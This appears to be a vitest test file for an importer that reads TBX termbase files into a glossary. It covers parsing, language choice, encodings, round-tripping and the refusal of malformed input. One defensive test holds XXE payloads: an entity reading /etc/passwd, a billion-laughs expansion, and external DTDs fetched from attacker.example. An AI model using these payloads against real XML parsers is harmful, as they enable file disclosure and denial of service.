import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { tbx } from '../../export/exporters/tbx.ts';
import { buildConcept, buildCorpus, buildDefinition, buildDesignation, buildGlossary } from '../../testing/builders.ts';
import { hostileTexts } from '../../testing/conformance/exporter.ts';
import { readImport } from '../read-import.ts';
import type { GlossaryLanguages } from './read-tbx.ts';

const glossary = (own: readonly string[], more: Partial<GlossaryLanguages> = {}): GlossaryLanguages => ({
  own,
  hasEntry: () => false,
  ...more,
});
const read = (content: string | Uint8Array, languages = glossary(['en']), fileName = 'terms.tbx') =>
  readImport({ fileName, content }, languages);
const refusalOf = async (content: string | Uint8Array): Promise<string> => {
  try {
    await read(content);
    return 'read';
  } catch (error) {
    return error instanceof Error ? `${(error as { code?: string }).code} ${error.message}` : '';
  }
};

/** Version 3 in the style DCA, as TBX-Basic has it. */
const dca = (entries: string) => `<?xml version="1.0" encoding="UTF-8"?>
<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">
  <tbxHeader><fileDesc><sourceDesc><p>Words of a harbour</p></sourceDesc></fileDesc></tbxHeader>
  <text><body>${entries}</body></text>
</tbx>`;

const quay = `
  <conceptEntry id="c1">
    <descrip type="subjectField">Harbour</descrip>
    <ref type="crossReference" target="c2">basin</ref>
    <xref type="externalCrossReference" target="https://example.org">more</xref>
    <note>Ask the harbour office.</note>
    <langSec xml:lang="de">
      <termSec><term>Kai</term></termSec>
      <termSec><term>Kaimauer</term></termSec>
    </langSec>
    <langSec xml:lang="en-GB">
      <transacGrp><transac type="transactionType">origination</transac><date>2026-01-02</date></transacGrp>
      <descripGrp>
        <descrip type="definition">A wall at which ships
          are loaded &amp; unloaded.</descrip>
        <admin type="source">Harbour law, § 3</admin>
      </descripGrp>
      <termSec>
        <term>dock wall</term>
        <termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote>
        <note>A dock is a basin.</note>
      </termSec>
      <termSec>
        <term>quay</term>
        <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>
        <termNote type="partOfSpeech">noun</termNote>
        <termNote type="termType">fullForm</termNote>
        <descrip type="context">The quay is wet.</descrip>
      </termSec>
      <termSec>
        <term>Q</term>
        <termNote type="administrativeStatus">admittedTerm-admn-sts</termNote>
        <termNote type="termType">acronym</termNote>
      </termSec>
    </langSec>
  </conceptEntry>
  <conceptEntry id="c2"><langSec xml:lang="en"><termSec><term>basin</term></termSec></langSec></conceptEntry>`;

const quayEntry = {
  place: 1,
  language: 'en',
  names: [
    { text: 'quay', status: 'preferred', form: 'full' },
    { text: 'dock wall', status: 'forbidden', reason: 'A dock is a basin.' },
    { text: 'Q', status: 'admitted', form: 'abbreviation' },
  ],
  statements: [
    { text: 'A wall at which ships are loaded & unloaded.', role: 'definition' },
    { text: 'The quay is wet.', role: 'context' },
  ],
  category: 'Harbour',
  note: 'Ask the harbour office.',
  relations: [{ kind: 'see-also', place: 2 }],
};

describe('a termbase', () => {
  it('of version 3 in the style DCA is read, and what has no place in a glossary is counted', async () => {
    const { format, entries, left } = await read(dca(quay));
    expect(format).toBe('tbx');
    expect(entries[0]).toEqual(quayEntry);
    expect(left).toEqual([
      { kind: 'names', name: 'de', count: 2 },
      { kind: 'field', name: 'externalCrossReference', count: 1 },
      { kind: 'field', name: 'partOfSpeech', count: 1 },
      { kind: 'field', name: 'source', count: 1 },
      { kind: 'field', name: 'transactionType', count: 1 },
    ]);
  });

  it('of version 3 in the style DCT says the same', async () => {
    const dct = dca(quay)
      .replace('style="dca"', 'style="dct" xmlns:basic="http://www.tbxinfo.net/ns/basic"')
      .replaceAll(
        /<(descrip|admin|termNote|ref|xref|transac) type="(\w+)"([^>]*)>(.*?)<\/\1>/gsu,
        '<basic:$2$3>$4</basic:$2>',
      );
    expect(dct).toContain('<basic:definition>');
    expect(await read(dct)).toEqual(await read(dca(quay)));
  });

  it('of version 2 is read with its names in parts, its values and what tools write in their place', async () => {
    const { entries, left } = await read(
      `<?xml version='1.0'?>
<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">
<martif type="TBX" xml:lang="en-US">
  <martifHeader><fileDesc><sourceDesc><p>x</p></sourceDesc></fileDesc></martifHeader>
  <text><body>
    <termEntry id="1">
      <descrip type="subjectField">Harbour</descrip>
      <langSet xml:lang="en-us">
        <descripGrp><descrip type="definition">A wall.</descrip><admin type="source">x</admin></descripGrp>
        <ntig>
          <termGrp>
            <term id="t1">the <hi>quay</hi></term>
            <termNote type="administrativeStatus">preferredTerm</termNote>
            <termNoteGrp><termNote type="partOfSpeech">properNoun</termNote></termNoteGrp>
          </termGrp>
          <descrip type="example">On the quay.</descrip>
        </ntig>
        <tig><term>bank</term><termNote type="administrativeStatus">forbidden</termNote></tig>
        <tig><term>key</term><termNote type="administrativeStatus">obsolete</termNote></tig>
        <tig><term>wall</term><termNote type="administrativeStatus">proposed</termNote></tig>
      </langSet>
    </termEntry>
    <termEntry id="2">
      <descrip type="superordinateConceptPartitive" target="t1">quay</descrip>
      <langSet xml:lang="en"><tig><term>bollard</term></tig></langSet>
    </termEntry>
  </body></text>
</martif>`,
      glossary(['en']),
      'export.xml',
    );
    expect(entries).toMatchObject([
      {
        names: [
          { text: 'the quay', status: 'preferred', kind: 'proper-name' },
          { text: 'bank', status: 'forbidden' },
          { text: 'key', status: 'deprecated' },
          { text: 'wall', status: 'admitted' },
        ],
        statements: [
          { text: 'A wall.', role: 'definition' },
          { text: 'On the quay.', role: 'context' },
        ],
        category: 'Harbour',
      },
      { names: [{ text: 'bollard' }], relations: [{ kind: 'part-of', place: 1 }] },
    ]);
    expect(left.map(({ name, count }) => [name, count])).toEqual([
      ['administrativeStatus', 1],
      ['source', 1],
    ]);
  });
});

describe('an entry of several languages', () => {
  const tide = dca(`<conceptEntry id="c1">
    <langSec xml:lang="ja"><descrip type="definition">海面の高さ。</descrip><termSec><term>潮位</term></termSec></langSec>
    <langSec xml:lang="fr"><termSec><term>marée</term></termSec></langSec>
    <langSec xml:lang="en">
      <descrip type="definition">How high the sea stands.</descrip><termSec><term>tide level</term></termSec>
    </langSec>
  </conceptEntry>`);
  const namesIn = async (languages: GlossaryLanguages) => {
    const { entries, left } = await read(tide, languages);
    const [entry] = entries;
    return {
      language: entry?.language,
      names: entry?.names.map(({ text, status }) => `${text} ${status}`),
      statements: entry?.statements.map(({ text }) => text),
      unfit: entry?.unfit?.reason,
      left: left.map(({ name, count }) => `${name} ${count}`),
    };
  };

  it('is of the first language of the glossary that it has; names in its other ones are further names', async () => {
    expect(await namesIn(glossary(['nl', 'en', 'ja']))).toEqual({
      language: 'en',
      names: ['tide level preferred', '潮位 admitted'],
      statements: ['How high the sea stands.'],
      unfit: undefined,
      left: ['fr 1', 'definition 1'],
    });
    expect(await namesIn(glossary(['ja']))).toMatchObject({ names: ['潮位 preferred'], left: ['en 1', 'fr 1'] });
  });

  it('takes no name that is an entry of its own', async () => {
    const languages = glossary(['en', 'ja'], { hasEntry: (name) => name === '潮位' });
    expect(await namesIn(languages)).toMatchObject({ names: ['tide level preferred'], left: ['fr 1', 'ja 1'] });
  });

  it('is of the language of the file where nobody knows that of the glossary, and of its first where it has none', async () => {
    expect(await namesIn(glossary([]))).toMatchObject({ language: 'en', left: ['fr 1', 'ja 1'] });
    expect(await namesIn(glossary(['nl']))).toMatchObject({ language: 'ja', left: ['en 1', 'fr 1'] });
  });

  it('is skipped where it has no name in the language that was asked for', async () => {
    expect(await namesIn(glossary(['en'], { told: 'fr' }))).toMatchObject({
      names: ['marée preferred'],
      unfit: undefined,
    });
    expect(await namesIn(glossary(['en'], { told: 'nl' }))).toMatchObject({
      names: ['潮位 preferred'],
      unfit: 'other-language',
      left: ['en 1', 'fr 1', 'ja 1'],
    });
  });
});

describe('an entry of one language', () => {
  it('keeps it, also where nobody has heard of it, and is of that of the file where it tells none', async () => {
    const { entries, left } = await read(
      dca(`<conceptEntry id="a"><langSec xml:lang="xx-none"><descrip type="definition">D.</descrip>
          <termSec><term>zork</term></termSec></langSec></conceptEntry>
        <conceptEntry id="b"><langSec><termSec><term>quay</term><ref type="crossReference" target="a">x</ref></termSec></langSec></conceptEntry>`),
      glossary([]),
    );
    expect(entries).toMatchObject([
      { names: [{ text: 'zork' }], statements: [{ text: 'D.' }] },
      { language: 'en', names: [{ text: 'quay' }], relations: [{ kind: 'see-also', place: 1 }] },
    ]);
    expect(left).toEqual([]);
  });
});

describe('an entry that has only names that are not to be used', () => {
  it('is skipped, so that none of them is preferred', async () => {
    const status = '<termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote>';
    const { entries } = await read(
      dca(
        `<conceptEntry id="c1"><langSec xml:lang="en"><termSec><term>key</term>${status}</termSec></langSec></conceptEntry>`,
      ),
    );
    expect(entries[0]?.unfit?.reason).toBe('no-usable-name');
  });
});

describe('a file that cannot be read as a termbase', () => {
  it.each([
    ['is broken', dca('<conceptEntry>\n<langSec></conceptEntry>'), /line 5, column 24\): unexpected close tag/u],
    ['ends too early', dca('').slice(0, -10), /line \d+, column \d+\): /u],
    ['says nothing', '', /line 1, column \d+\): /u],
    ['is other XML', '<html><body></body></html>', /it is XML, and no TBX/u],
    ['names an entity that there is not', dca('<conceptEntry>&nbsp;</conceptEntry>'), /undefined entity|nbsp/u],
    ['is nested without end', dca('<descripGrp>'.repeat(100)), /too deep/u],
    ['has too many entries', dca('<conceptEntry></conceptEntry>'.repeat(10_001)), /more than 10000 rows/u],
    [
      'is not in the encoding that it names',
      Buffer.concat([Buffer.from('<?xml version="1.0" encoding="UTF-8"?><tbx>'), Buffer.from([0xff, 0xe9, 0x3c])]),
      /not in the encoding that it names/u,
    ],
  ])('is refused with the place where it %s', async (_, content, why) => {
    expect(await refusalOf(content)).toMatch(/^import\/invalid /u);
    expect(await refusalOf(content)).toMatch(why);
  });

  it('is refused where it declares entities, of whatever kind, and none is ever resolved', async () => {
    const declared = (entity: string) => dca('').replace('<tbx', `<!DOCTYPE tbx [${entity}]><tbx`);
    for (const entity of [
      '<!ENTITY secret SYSTEM "file:///etc/passwd">',
      '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">',
      '<!ENTITY % all SYSTEM "http://attacker.example/all.dtd"> %all;',
    ]) {
      expect(await refusalOf(declared(entity))).toMatch(/^import\/invalid .*entities of its own/u);
    }
    const { entries } = await read(
      dca(quay).replace('<tbx', '<!DOCTYPE tbx SYSTEM "http://attacker.example/all.dtd"><tbx'),
    );
    expect(entries[0]).toEqual(quayEntry);
  });
});

const file = (encoding: string, term: string) =>
  dca(
    `<conceptEntry id="c1"><langSec xml:lang="en"><termSec><term>${term}</term></termSec></langSec></conceptEntry>`,
  ).replace('UTF-8', encoding);
const termOf = async (content: Uint8Array) => (await read(content)).entries[0]?.names[0]?.text;

describe('the encoding of a termbase', () => {
  it('is the one that it names, else the one that its bytes show', async () => {
    expect(await termOf(Buffer.from(file('ISO-8859-2', 'B\u00b3ysk'), 'latin1'))).toBe('Błysk');
    expect(await termOf(Buffer.from(`\ufeff${file('UTF-16', 'quai d’été')}`, 'utf16le'))).toBe('quai d’été');
    expect(await termOf(Buffer.from(file('nobody-knows', 'quai d’été')))).toBe('quai d’été');
  });
});

// oxlint-disable-next-line no-control-regex
const unholdable = /[\0-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/gu;

describe('our own export', () => {
  it('is read with every text as it was, but for characters that no XML file can hold', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...hostileTexts), fc.string({ unit: 'binary' }), async (hostile, any) => {
        const text = `${hostile}${any}x`.toWellFormed().replace(unholdable, '');
        const document = 'docs/a: b.md';
        const corpus = buildCorpus({ [document]: `\r\n One\n${text} two` });
        const evidence = [corpus.evidence(document, `${text} two`)];
        const statements = (['definition', 'context'] as const).map((role) => {
          return { text, role, support: 'supported' as const, evidence };
        });
        const concept = buildConcept('quay', {
          designations: [
            buildDesignation('quay', { reading: text, kind: 'symbol' }),
            buildDesignation('key', { status: 'forbidden', form: 'synonym', reason: text }),
          ],
          definition: buildDefinition(evidence, { statements }),
          category: text,
          note: text,
        });
        const glossaryOfIt = buildGlossary({ documents: corpus.documents, concepts: [concept] });
        const { entries, left } = await read([...tbx.write(glossaryOfIt, {})].join(''));
        const passage = { document, quote: `${text} two` };
        expect(entries).toEqual([
          {
            place: 1,
            language: 'en',
            names: [
              { text: 'quay', status: 'preferred', form: 'full', kind: 'symbol', reading: text },
              { text: 'key', status: 'forbidden', reason: text },
            ],
            statements: statements.map(({ role }) => {
              return { text, role, evidence: [expect.objectContaining(passage)] };
            }),
            category: text,
            note: text,
            relations: [],
          },
        ]);
        expect(left).toEqual([]);
      }),
      { numRuns: 100 },
    );
  });
});
